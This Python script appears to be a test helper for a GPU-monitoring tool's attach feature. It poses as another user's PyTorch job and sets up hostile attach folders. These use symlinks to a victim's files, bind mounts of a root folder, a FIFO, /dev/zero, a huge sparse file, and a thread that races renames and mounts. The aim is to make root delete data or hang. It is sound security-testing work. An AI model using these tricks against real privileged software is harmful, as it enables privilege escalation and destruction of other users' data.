"""A job of another user that looks like one with PyTorch, and turns against the user who attaches to it.

Takes what it does (a name of `TRICKS`) and a folder of root's that it would like to see emptied. Prints `ready` once it has done it.
Has the names of the files of a request from its own number, as any job can.
"""

import ctypes
import mmap
import os
import sys
import tempfile
import threading

BIND = 4096
DETACH = 2
libc = ctypes.CDLL(None, use_errno=True)


def mount(source, target):
    if libc.mount(os.fsencode(source), os.fsencode(target), None, BIND, None):
        raise OSError(ctypes.get_errno(), "mount")


def folder():
    with open("/proc/sys/kernel/random/boot_id") as file:
        boot = file.read(8)
    space = "".join(it for it in os.readlink("/proc/self/ns/pid") if it.isdigit())
    with open("/proc/self/stat") as file:
        ticks = file.read().rpartition(")")[2].split()[19]
    return "/tmp/gpuwatch-attach-%s-%s-%d-%s" % (boot, space, os.getpid(), ticks)


def plain(there, victim):
    pass


def links(there, victim):
    os.mkdir(there, 0o700)
    for name in ("lock", "asked", "begun", "answer", "answer.tmp", "request.py", "created"):
        os.symlink(os.path.join(victim, name if name == "created" else "precious"), os.path.join(there, name))


def pipe(there, victim):
    os.mkdir(there, 0o700)
    os.mkfifo(os.path.join(there, "answer"), 0o600)


def zeros(there, victim):
    os.mkdir(there, 0o700)
    os.symlink("/dev/zero", os.path.join(there, "answer"))


def endless(there, victim):
    os.mkdir(there, 0o700)
    with open(os.path.join(there, "answer"), "w") as file:
        file.truncate(1 << 40)


def mounted(there, victim, names=("lock", "asked")):
    os.mkdir(there, 0o700)
    for name in names:
        target = os.path.join(there, name)
        os.mkdir(target, 0o700)
        mount(victim, target)


def mounted_folder(there, victim):
    mounted(there, victim, [sys.argv[3]])


def mounted_itself(there, victim):
    os.mkdir(there, 0o700)
    mount(victim, there)


def link_itself(there, victim):
    os.symlink(victim, there)


def racing(there, victim):
    """Exchanges every name all the time."""

    def race():
        while True:
            for name in (sys.argv[3], "lock", "asked", "answer", ""):
                target = os.path.join(there, name)
                try:
                    os.rename(target, target + ".away")
                    os.symlink(victim if name in (sys.argv[3], "") else os.path.join(victim, "precious"), target)
                    os.unlink(target)
                    os.mkdir(target, 0o700)
                    mount(victim, target)
                    libc.umount2(os.fsencode(target), DETACH)
                    os.rmdir(target)
                    os.rename(target + ".away", target)
                except OSError:
                    pass

    threading.Thread(target=race, daemon=True).start()


ALL = plain, links, pipe, zeros, endless, mounted, mounted_folder, mounted_itself, link_itself, racing
TRICKS = {it.__name__: it for it in ALL}

own = tempfile.mkdtemp()
maps = []
for name, length in (("libtorch_python.so", 4096), ("libcuda.so.1", 4096)):
    with open(os.path.join(own, name), "wb+") as file:
        file.truncate(length)
        maps.append(mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ))

TRICKS[sys.argv[1]](folder(), sys.argv[2])
print("ready", flush=True)
# Returns to Python for what is queued, until it may end.
while not os.path.exists(os.path.join(sys.argv[2], "end")):
    threading.Event().wait(0.01)
